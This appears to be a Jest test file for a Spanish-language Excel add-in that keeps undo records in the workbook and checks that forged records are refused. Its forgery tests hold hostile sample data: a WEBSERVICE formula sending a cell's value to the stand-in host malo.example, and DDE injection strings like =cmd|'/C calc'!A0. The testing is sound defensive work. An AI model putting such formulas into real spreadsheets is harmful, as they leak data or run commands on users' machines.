/** @jest-environment-options {"globalsCleanup": "off"} */
import { createExcelHost, type ExcelHost } from "../../../../src/hosts/excel/excelHost";
import { KEPT_NAMESPACE, keptPart, recordIn } from "../../../../src/opc/keptPart";
import type { ExcelHost as StandIn } from "../../../../src/sandbox/excel/host";
import { workbookData } from "../../../../src/sandbox/excel/model/book/save";
import type { WorkbookData } from "../../../../src/sandbox/excel/model/book/workbookData";
import { PLATFORM_NAMES, PLATFORMS } from "../../../../src/sandbox/excel/platform";
import { loadOffice, type OfficeInNode } from "../../../sandbox/excel/loadOffice";
import { asSeen } from "../asSeen";
import { book, COLUMN, fillPlan, summaryStep } from "../sampleBook";

let office: OfficeInNode;
let excel: StandIn;
let host: ExcelHost;

beforeAll(async () => {
  office = await loadOffice();
});

afterEach(async () => {
  await excel.idle();
  expect(excel.bugs).toEqual([]);
});

const matrix = () => excel.book.findSheet("Matriz");
const kept = () => [...excel.book.customXml.values()];

async function fill(): Promise<void> {
  const outcome = await host.apply(fillPlan(6), { expected: [await host.readGrid("Matriz")] });
  expect(outcome.ok ? "done" : outcome.problem.message).toBe("done");
}

async function put(rows: number): Promise<void> {
  expect(await host.apply({ title: `Resumen de ${rows}`, steps: [summaryStep(rows)], sources: [] })).toMatchObject({ ok: true });
}

/** The book saved, closed and opened again, perhaps on another machine: sheets get other ids. */
function reopen(change: (data: WorkbookData) => WorkbookData = (data) => data): void {
  excel = office.open(change(JSON.parse(JSON.stringify(workbookData(excel.book))) as WorkbookData));
  host = createExcelHost();
}

async function sightOf(of: ExcelHost): Promise<Extract<Awaited<ReturnType<ExcelHost["undoSight"]>>, { ok: true }>["sight"]> {
  const seen = await of.undoSight();
  if (!seen.ok) throw new Error(seen.problem.message);
  return seen.sight;
}

/** The record of the last change, as somebody else wrote it over. */
function forge(change: (record: Record<string, unknown>) => unknown): (data: WorkbookData) => WorkbookData {
  return (data) => {
    const record = recordIn(data.customXml?.[0] ?? "") as Record<string, unknown>;
    return { ...data, customXml: [keptPart(change(record), String(record["at"])) ?? ""] };
  };
}

beforeEach(() => {
  office.on(PLATFORMS.windows);
  excel = office.open(book(6));
  host = createExcelHost();
});

describe.each(PLATFORM_NAMES)("A change that the workbook keeps (%s)", (platform) => {
  beforeEach(() => office.on(PLATFORMS[platform]));

  it("is taken back after the book was saved and opened again, step by step, to what it was", async () => {
    const start = asSeen(excel.book);
    await fill();
    const filled = asSeen(excel.book);
    await put(3);
    reopen();
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    expect(asSeen(excel.book)).toEqual(filled);
    reopen();
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    expect(asSeen(excel.book)).toEqual(start);
    expect(kept()).toEqual([]);
    expect(await host.undo()).toMatchObject({ ok: false, problem: { message: expect.stringContaining("No hay nada que deshacer") } });
  });

  it("is told cell by cell before, with what stays because she edited it since, and nothing is written for it", async () => {
    await fill();
    reopen();
    matrix()?.setContent(4, COLUMN.progress, { value: 77 });
    const before = asSeen(excel.book);
    const sight = await sightOf(host);
    expect(asSeen(excel.book)).toEqual(before);
    expect(sight).toMatchObject({
      title: "Calcular avances 2023",
      removed: ["Resumen PNTP"],
      refreshed: [],
      recoloured: ["Matriz"],
      kept: [{ sheet: "Matriz", row: 4, column: COLUMN.progress }],
    });
    expect(sight.cells).toHaveLength(12);
    expect(sight.cells[0]).toMatchObject({ sheet: "Matriz", row: 3, now: { value: "Avance Tipo 2 (%) 2023" }, back: { value: null } });
    expect(await host.undo()).toMatchObject({ ok: true, kept: 1, undone: { cells: sight.cells, kept: sight.kept } });
    expect(matrix()?.value(4, COLUMN.progress)).toBe(77);
  });

  it("finds its rows again where rows were put in after the book was opened", async () => {
    await fill();
    reopen();
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem("Matriz").getRange("5:5").insert("Down");
      await context.sync();
    });
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    expect([matrix()?.value(5, COLUMN.progress), matrix()?.value(7, COLUMN.progress)]).toEqual([0, 2]);
  });
});

describe("What is kept in the workbook", () => {
  it("is ten changes at most: the oldest one gives way", async () => {
    for (let rows = 1; rows <= 12; rows++) await put(1 + (rows % 5));
    expect(kept()).toHaveLength(10);
  });

  it("is forgotten once it was taken back, in the same session too", async () => {
    await fill();
    expect(kept()).toHaveLength(1);
    await host.undo();
    expect(kept()).toEqual([]);
  });

  it("leaves what other programs keep there alone", async () => {
    excel.book.addCustomXml('<otro xmlns="urn:otro">1</otro>');
    await fill();
    await host.undo();
    expect(kept()).toEqual(['<otro xmlns="urn:otro">1</otro>']);
  });

  it("fails to be kept without harm: the change stands, and it is told how long it can be taken back", async () => {
    const grid = await host.readGrid("Matriz");
    excel.faults.clear();
    const whole = createExcelHost();
    await whole.apply(fillPlan(6), { expected: [grid] });
    const last = excel.faults.requests.length;
    excel = office.open(book(6));
    host = createExcelHost();
    const again = await host.readGrid("Matriz");
    excel.faults.clear();
    excel.faults.failRequest({ request: last - 1, when: "before", code: "GeneralException" });
    const outcome = await host.apply(fillPlan(6), { expected: [again] });
    expect(outcome).toMatchObject({ ok: true, report: { remarks: [expect.stringContaining("mientras este panel siga abierto")] } });
    expect(matrix()?.cell(4, COLUMN.progress).formula).toContain("ISNUMBER");
    expect(await host.undo()).toMatchObject({ ok: true });
    expect(matrix()?.value(4, COLUMN.progress)).toBe(0);
  });
});

describe("What somebody forged there", () => {
  it.each<[string, (record: Record<string, unknown>) => unknown]>([
    ["another version", (record) => ({ ...record, v: 9 })],
    [
      "a sheet of hers to be taken away",
      (record) => withStep(record, { s: "removeSheet", sheet: ["Matriz", "{1}"], cells: [], names: ["PNTP_Resumen"], charts: [] }),
    ],
    [
      "a name of hers",
      (record) => withStep(record, { s: "restoreNames", names: [{ name: "Mi_Rango", left: null, back: "=Matriz!$A$1" }] }),
    ],
    [
      "a layout of its own",
      (record) => withStep(record, { s: "restoreLayout", sheet: ["Matriz", "{1}"], parts: [{ part: "excel", left: [], back: null }] }),
    ],
  ])("with %s is refused with a sentence, and nothing of it is done", async (_, change) => {
    await fill();
    reopen(forge(change));
    const before = asSeen(excel.book);
    const refusal = { ok: false, problem: { code: "unsupported", message: expect.stringContaining("está dañado o no lo escribió PNTP") } };
    expect(await host.undoSight()).toMatchObject(refusal);
    expect(await host.undo()).toMatchObject(refusal);
    expect(asSeen(excel.book)).toEqual(before);
  });

  it("as a formula that fetches, calls or links is not put back, and the cell is named", async () => {
    await fill();
    reopen(
      forge((record) => {
        const [cells, ...rest] = record["steps"] as [{ cells: [number, number, unknown, unknown, unknown][] }, ...unknown[]];
        const forged = cells.cells.map((line) =>
          line[0] === 4 && line[1] === COLUMN.progress
            ? [...line.slice(0, 3), [null, '=WEBSERVICE("https://malo.example/?"&A1)'], line[4]]
            : line,
        );
        return { ...record, steps: [{ ...cells, cells: forged }, ...rest] };
      }),
    );
    const ours = matrix()?.cell(4, COLUMN.progress).formula;
    expect((await sightOf(host)).remarks.join(" ")).toContain("No vuelve la fórmula de F5 (hoja «Matriz»)");
    const outcome = await host.undo();
    expect(outcome.ok && outcome.report.remarks?.join(" ")).toContain("No vuelve la fórmula de F5");
    expect([matrix()?.cell(4, COLUMN.progress).formula, matrix()?.value(6, COLUMN.progress)]).toEqual([ours, 2]);
  });

  it.each(["=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "@SUM(1)", "-1+1", "'=A1"])("as the text %s stays a text", async (text) => {
    await fill();
    reopen(
      forge((record) => {
        const [cells, ...rest] = record["steps"] as [{ cells: [number, number, unknown, unknown, unknown][] }, ...unknown[]];
        const forged = cells.cells.map((line) =>
          line[0] === 4 && line[1] === COLUMN.progress ? [...line.slice(0, 3), [text], line[4]] : line,
        );
        return { ...record, steps: [{ ...cells, cells: forged }, ...rest] };
      }),
    );
    expect(await host.undo()).toMatchObject({ ok: true });
    expect([matrix()?.cell(4, COLUMN.progress).formula, matrix()?.value(4, COLUMN.progress)]).toEqual([undefined, text]);
  });

  it("beside ours is not used, and told; ours is", async () => {
    await fill();
    reopen((data) => ({ ...data, customXml: [...(data.customXml ?? []), `<deshacer xmlns="${KEPT_NAMESPACE}">AAAA</deshacer>`] }));
    expect((await sightOf(host)).remarks).toEqual([expect.stringContaining("otro paso que está dañado")]);
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    expect(matrix()?.value(4, COLUMN.progress)).toBe(0);
  });

  it("in hundreds of parts is not followed: forty are looked at, and ours, the newest, is taken back", async () => {
    await fill();
    const junk = Array.from({ length: 300 }, () => `<deshacer xmlns="${KEPT_NAMESPACE}" en="2020-01-01T00:00:00.000Z">AAAA</deshacer>`);
    reopen((data) => ({ ...data, customXml: [...junk, ...(data.customXml ?? [])] }));
    excel.faults.requests.length = 0;
    expect((await sightOf(host)).remarks).toEqual([expect.stringContaining("otro paso que está dañado")]);
    const asked = excel.faults.requests.flatMap(({ body }) => body.Actions.filter(({ Name }) => Name === "GetXml")).length;
    expect(asked).toBeLessThanOrEqual(40);
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    await put(3);
    expect(kept().length).toBeLessThanOrEqual(10);
  });

  it("under a moment that is not its own is not used", async () => {
    await fill();
    reopen((data) => ({ ...data, customXml: (data.customXml ?? []).map((part) => part.replace(/ en="\d{4}/, ' en="2099')) }));
    expect(await host.undoSight()).toMatchObject({ ok: false, problem: { message: expect.stringContaining("no lo escribió PNTP") } });
  });

  it("behind a newer change of ours is judged when its turn comes, and not unpacked before", async () => {
    await fill();
    await put(3);
    reopen((data) => {
      const [first = "", ...rest] = data.customXml ?? [];
      return { ...data, customXml: [first.replace(/>[^<]+</, ">AAAA<"), ...rest] };
    });
    expect((await sightOf(host)).remarks).toEqual([]);
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    expect(await host.undo()).toMatchObject({ ok: false, problem: { message: expect.stringContaining("está dañado") } });
  });

  it("as the same change twice is taken back once: then its cells hold something else, and stay", async () => {
    const start = asSeen(excel.book);
    await fill();
    reopen((data) => ({ ...data, customXml: [...(data.customXml ?? []), ...(data.customXml ?? [])] }));
    expect(await host.undo()).toMatchObject({ ok: true, kept: 0 });
    expect(asSeen(excel.book)).toEqual(start);
    await host.undo();
    expect(asSeen(excel.book)).toEqual(start);
  });

  it("from another workbook changes nothing here that this one's owner typed", async () => {
    await fill();
    const of = workbookData(excel.book).customXml ?? [];
    excel = office.open({ ...book(6), customXml: of });
    host = createExcelHost();
    const before = asSeen(excel.book);
    await host.undo();
    expect(asSeen(excel.book)).toEqual(before);
  });

  it("cannot write over what she typed since: only what we left gives way", async () => {
    await fill();
    reopen(
      forge((record) => {
        const [cells, ...rest] = record["steps"] as [{ cells: unknown[] }, ...unknown[]];
        return { ...record, steps: [{ ...cells, cells: [[4, COLUMN.target, [1], [999], null]] }, ...rest] };
      }),
    );
    expect(await host.undo()).toMatchObject({ ok: true, kept: 1 });
    expect(matrix()?.value(4, COLUMN.target)).toBe(50);
  });
});

function withStep(record: Record<string, unknown>, step: object): unknown {
  return { ...record, steps: [...(record["steps"] as unknown[]), step] };
}
